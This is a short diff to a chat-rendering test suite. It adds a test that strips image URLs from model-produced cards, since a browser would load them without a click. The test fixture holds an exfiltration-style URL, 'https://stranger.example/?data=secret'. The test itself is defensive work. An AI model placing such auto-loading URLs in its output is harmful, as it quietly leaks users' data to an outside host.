@@ -113,6 +113,12 @@ describe("options that a model shows", () => {
     expect(await offered()).toMatchObject({ text: "", interactive: shown });
   });
 
+  it("have no images, which a browser would load without a click", async () => {
+    modelShows({ cards: [{ title: "Lamp", image_url: "https://stranger.example/?data=secret" }] }, "");
+    const { chunks } = await write("Hello");
+    expect(shownIn(chunks)).toEqual({ cards: [{ title: "Lamp", buttons: [] }] });
+  });
+
   it("belong to the last message of an answer that is split", async () => {
     await use({ split: { mode: "paragraph" }, footer: "Bye!" });
     modelShows({ text: "First.\n\nSecond.", ...wines });
